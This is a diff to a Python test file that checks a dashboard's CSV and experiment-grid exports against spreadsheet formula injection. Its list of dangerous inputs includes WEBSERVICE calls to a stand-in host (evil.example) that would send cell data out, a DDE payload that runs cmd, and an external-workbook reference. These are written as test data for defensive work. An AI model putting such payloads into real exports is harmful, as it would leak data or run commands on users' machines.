@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from crewdash.batch import Batch, TokenUsage
-from crewdash.exports import csv_cell, export
+from crewdash.model.batch import Batch, TokenUsage
+from crewdash.present.exports import csv_cell, export
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULAS = [
@@ -58,7 +58,57 @@ def test_numbers_stay_numbers_even_when_negative() -> None:
     assert csv_cell(Decimal("-2.000")) == "-2.000"
     assert csv_cell(Decimal("0.00000015")) == "0.00000015"
     assert csv_cell(None) == ""
-    assert csv_cell("-3") == "'-3"  # text is text: a topic "-3" is not a number column
+    assert csv_cell("-3") == "-3"  # a number as text is still read as a number, nothing runs
+    assert csv_cell("-1,234.5") == '"-1,234.5"'
+    assert csv_cell("+2.5e-3") == "+2.5e-3"
+
+
+DANGEROUS = [
+    *FORMULAS,  # "-2+3" evaluates to 1
+    "- 2+3",
+    "+A1",
+    "--1",
+    '- see WEBSERVICE("http://evil.example/?"&A1)',  # a list item that calls a function
+    '- see WEBSERVICE ("http://evil.example/")',
+    "- x cmd|' /C calc'!A0",  # DDE
+    "+ value of 'http://evil.example/[book.xlsx]Sheet1'!A1",  # another file's cell
+    "-\tindented",
+    "-",
+]
+READABLE = [
+    "- first point",
+    "- first point\n- second point, with a [link](https://example.com)",
+    "+ a plus-sign list item",
+    "- **bold** lead: then words.",
+    "-5",
+    "-0.25",
+    "+3",
+    "plain - with a dash inside",
+    "a = b",
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_what_a_spreadsheet_would_evaluate_is_neutralised(text: str) -> None:
+    (row,) = csv.reader(io.StringIO(csv_cell(text) + "\r\n", newline=""))
+    assert row == ["'" + text]
+
+
+@pytest.mark.parametrize("text", READABLE)
+def test_bulleted_answers_and_negative_numbers_stay_as_written(text: str) -> None:
+    (row,) = csv.reader(io.StringIO(csv_cell(text) + "\r\n", newline=""))
+    assert row == [text]
+
+
+def test_a_bulleted_answer_in_the_batch_export_has_no_apostrophe() -> None:
+    answer = "- first point\n- second point"
+    batch = Batch("b", "timing", ["- a bulleted topic", "-2+3"], model_label="m", max_concurrency=2)
+    for run_id in batch.run_ids:
+        batch.mark_running(run_id)
+        batch.mark_succeeded(run_id, answer, TokenUsage(1, 1, 2))
+    parsed = rows(export(batch.snapshot(), "csv"))
+    assert [r["topic"] for r in parsed] == ["- a bulleted topic", "'-2+3"]
+    assert [r["result"] for r in parsed] == [answer, answer]
 
 
 def test_the_dashboards_table_download_is_off() -> None:
@@ -80,7 +130,7 @@ def test_ordinary_text_reads_back_unchanged(value: str) -> None:
 
 
 def test_every_task_output_inputs_and_files_are_in_each_export() -> None:
-    from crewdash.batch import CrewState, TaskResult
+    from crewdash.model.batch import CrewState, TaskResult
 
     batch = Batch(
         "p",
@@ -114,3 +164,22 @@ def test_every_task_output_inputs_and_files_are_in_each_export() -> None:
     data = json.loads(export(snap, "json"))
     assert data["kind"] == "crew" and data["crews"][0]["files"] == ["report.md"]
     assert [t["name"] for t in data["crews"][0]["tasks"]] == ["gather", "brief"]
+
+
+def test_the_experiment_grid_csv_follows_the_same_rule() -> None:
+    from crewdash.experiments.spec import ExperimentSpec, Variant, build_grid
+    from crewdash.experiments.store import CellNotes
+    from crewdash.present.experiment_exports import grid_csv
+
+    topics = ("- a bulleted topic", "=1+1")
+    spec = ExperimentSpec(topics, (Variant("a", model="demo-fast"), Variant("b")))
+    crews = [t for t in topics for _ in "ab"]
+    batch = Batch("e", "experiment", crews, model_label="demo", max_concurrency=4)
+    for run_id in batch.run_ids:
+        batch.mark_running(run_id)
+        batch.mark_succeeded(run_id, "- first point", TokenUsage(1, 1, 2))
+    notes = {0: CellNotes(note="- kept as written"), 1: CellNotes(note="@SUM(A1:A2)")}
+    grid = build_grid("e", spec, batch.snapshot(), notes)
+    cells = [r for r in csv.reader(io.StringIO(grid_csv(grid), newline="")) if r[0] == "cell"]
+    assert [r[1] for r in cells] == ["- a bulleted topic"] * 2 + ["'=1+1"] * 2
+    assert [r[10] for r in cells[:2]] == ["- kept as written", "'@SUM(A1:A2)"]
